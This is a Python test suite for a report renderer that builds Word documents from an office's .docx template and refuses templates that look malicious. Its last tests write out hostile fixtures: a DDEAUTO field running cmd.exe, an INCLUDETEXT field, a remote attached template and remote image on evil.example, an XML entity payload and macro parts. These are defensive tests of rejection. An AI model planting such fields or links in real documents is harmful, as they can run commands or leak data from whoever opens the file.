"""An office's template gives its styles and its page, and nothing else; a file that is not what it seems to be is refused."""

import re
from collections.abc import Callable
from functools import cache
from io import BytesIO
from zipfile import ZipFile

import docx
import pytest
from docx.enum.style import WD_STYLE_TYPE
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls
from docx.shared import Mm, RGBColor
from lxml import etree

from govreg.errors import GovregError
from govreg.render.docx.body import TEXT
from govreg.render.docx.document import render
from govreg.render.target import Target
from govreg.report import BulletList, Column, Heading, Report, Table

ATTACHED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
REPORT = Report((Heading("Review", 1), BulletList(("one",)), Table((Column("A"),), (("1",),))), data=dict)


def saved(document: object) -> bytes:
    made = BytesIO()
    document.save(made)  # type: ignore[attr-defined]
    return made.getvalue()


@cache
def office() -> bytes:
    """A template as an office has one: its colours, its page, its header, and text that shows how to use it."""
    document = docx.Document()
    document.styles["Title"].font.color.rgb = RGBColor(0x12, 0x34, 0x56)
    document.styles.add_style("Register table", WD_STYLE_TYPE.TABLE)
    document.sections[0].page_width, document.sections[0].page_height = Mm(200), Mm(280)
    document.sections[0].header.paragraphs[0].text = "Office of the Commissioner"
    document.add_paragraph("How to use this template")
    document.core_properties.author = "A. Person"
    return saved(document)


def changed(content: bytes, **parts: Callable[[bytes], bytes] | bytes) -> bytes:
    """`content` with parts changed or added; a part's name has `__` for `/`."""
    named = {name.replace("__", "/"): change for name, change in parts.items()}
    made = BytesIO()
    with ZipFile(BytesIO(content)) as source, ZipFile(made, "w") as target:
        for name in source.namelist():
            text, change = source.read(name), named.pop(name, None)
            target.writestr(name, change(text) if callable(change) else change if change is not None else text)
        for name, change in named.items():
            target.writestr(name, change if isinstance(change, bytes) else b"")
    return made.getvalue()


def parts(content: bytes) -> dict[str, bytes]:
    with ZipFile(BytesIO(content)) as read:
        return {name: read.read(name) for name in read.namelist()}


def test_its_styles_page_and_header_are_taken_and_its_text_is_not() -> None:
    made = render(REPORT, Target(template=office()))
    document = docx.Document(BytesIO(made))

    assert str(document.styles["Title"].font.color.rgb) == "123456"
    assert document.sections[0].header.paragraphs[0].text == "Office of the Commissioner"
    assert round(document.sections[0].page_width.mm) == 200  # type: ignore[union-attr]
    assert [paragraph.text for paragraph in document.paragraphs if paragraph.text] == ["Review", "one"]
    assert document.tables[0].style is not None
    assert document.tables[0].style.name == "Register table"
    assert not [name for name, text in parts(made).items() if b"A. Person" in text or b"How to use" in text]


def test_a_processing_instruction_of_a_template_takes_the_place_of_no_text() -> None:
    instruction = etree.tostring(etree.ProcessingInstruction(TEXT))
    template = changed(office(), **{"word/document.xml": lambda text: text.replace(b"<w:cols", instruction + b"<w:cols")})
    made = parts(render(REPORT, Target(template=template)))["word/document.xml"]

    assert instruction in parts(template)["word/document.xml"]
    assert b"<?govreg" not in made
    assert [piece.text for piece in etree.fromstring(made).iter("{*}t")] == ["Review", "one", "A", "1"]


def test_a_comment_of_a_template_is_left_behind() -> None:
    comment = b"<!-- Ask A. Person" + etree.tostring(etree.ProcessingInstruction(TEXT)) + b"-->"
    template = changed(office(), **{"word/document.xml": lambda text: text.replace(b"<w:cols", comment + b"<w:cols")})
    made = parts(render(REPORT, Target(template=template)))["word/document.xml"]

    assert b"A. Person" not in made
    assert [piece.text for piece in etree.fromstring(made).iter("{*}t")] == ["Review", "one", "A", "1"]


def renamed(text: bytes, w: bytes) -> bytes:
    """The text of a document that calls Word's namespace `q`; `w` is declared as given."""
    return re.sub(rb"([< /])w:", rb"\1q:", text).replace(b"xmlns:w=", w + b"xmlns:q=")


def test_a_template_may_call_words_namespace_anything() -> None:
    template = changed(office(), **{"word/document.xml": lambda text: renamed(text, b"")})

    assert docx.Document(BytesIO(render(REPORT, Target(template=template)))).paragraphs[0].text == "Review"


def test_a_template_whose_prefix_means_something_else_is_refused() -> None:
    template = changed(office(), **{"word/document.xml": lambda text: renamed(text, b'xmlns:w="urn:other" ')})

    with pytest.raises(GovregError, match="its “w” isn't Word's"):
        render(REPORT, Target(template=template))


def test_the_same_template_gives_the_same_bytes() -> None:
    template = office()

    assert render(REPORT, Target(template=template)) == render(REPORT, Target(template=template))


def test_a_word_template_is_a_template_too() -> None:
    main, template = (
        f"application/vnd.openxmlformats-officedocument.wordprocessingml.{kind}.main+xml".encode() for kind in ("document", "template")
    )
    dotx = changed(office(), **{"[Content_Types].xml": lambda text: text.replace(main, template)})

    assert docx.Document(BytesIO(render(REPORT, Target(template=dotx)))).paragraphs[0].text == "Review"


def test_a_template_without_lists_gets_bullets() -> None:
    document = docx.Document()
    document.styles["List Bullet"].delete()
    for id_, relation in list(document.part.rels.items()):
        if relation.reltype == RELATIONSHIP_TYPE.NUMBERING:
            del document.part.rels[id_]
    made = docx.Document(BytesIO(render(REPORT, Target(template=saved(document)))))

    assert b"\xe2\x80\xa2" in parts(saved(made))["word/numbering.xml"]
    assert made.paragraphs[1].style is not None
    assert made.paragraphs[1].style.name == "List Bullet"


def test_a_page_number_of_its_own_is_kept_alone() -> None:
    document = docx.Document()
    foot = document.sections[0].footer
    foot.paragraphs[0]._p.append(parse_xml(f"<w:fldSimple {nsdecls('w')} w:instr='PAGE'/>"))  # noqa: SLF001
    made = parts(render(REPORT, Target(template=saved(document))))

    assert b"NUMPAGES" not in b"".join(made.values())


def test_a_template_that_it_was_made_from_is_not_fetched() -> None:
    document = docx.Document()
    rel = document.part._settings_part.relate_to("https://evil.example/t.dotm", ATTACHED, is_external=True)  # noqa: SLF001
    document.settings.element.append(parse_xml(f"<w:attachedTemplate {nsdecls('w', 'r')} r:id='{rel}'/>"))
    made = parts(render(REPORT, Target(template=saved(document))))

    assert not [name for name, text in made.items() if b"evil" in text or b"attachedTemplate" in text or b"External" in text]


def with_field(code: str) -> bytes:
    document = docx.Document()
    document.sections[0].header.paragraphs[0]._p.append(parse_xml(f"<w:fldSimple {nsdecls('w')} w:instr='{code}'/>"))  # noqa: SLF001
    return saved(document)


def with_remote_picture() -> bytes:
    document = docx.Document()
    header = document.sections[0].header
    header.paragraphs[0].text = "x"
    header.part.relate_to("https://evil.example/x.png", RELATIONSHIP_TYPE.IMAGE, is_external=True)
    return saved(document)


BOMB = b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'aaaa'>]><w:styles xmlns:w='x'>&a;</w:styles>"

REFUSED = {
    "not a file of Word's": b"hello",
    "cut off": office()[:2000],
    "a zip file": changed(b"PK\x05\x06" + bytes(18), a=b"b"),
    "macros": changed(office(), word__vbaProject=b"x"),
    "macros, as its type says": changed(
        office(), **{"[Content_Types].xml": lambda text: text.replace(b"document.main+xml", b"x.macroEnabled.main+xml")}
    ),
    "a type of document": changed(office(), **{"word/styles.xml": BOMB}),
    "a type of document in UTF-16": changed(office(), **{"word/styles.xml": BOMB.decode().encode("utf-16")}),
    "no XML": changed(office(), **{"word/styles.xml": b"<a"}),
    "too much": changed(office(), **{"word/media/x.bin": bytes(65 * 1024 * 1024)}),
    "a program": with_field('DDEAUTO c:\\\\cmd.exe "/k"'),
    "another file": with_field("INCLUDETEXT http://evil.example"),
    "a picture from elsewhere": with_remote_picture(),
}


@pytest.mark.parametrize("content", REFUSED.values(), ids=REFUSED)
def test_a_hostile_template_is_refused(content: bytes) -> None:
    with pytest.raises(GovregError, match="The template can't be used: "):
        render(REPORT, Target(template=content))
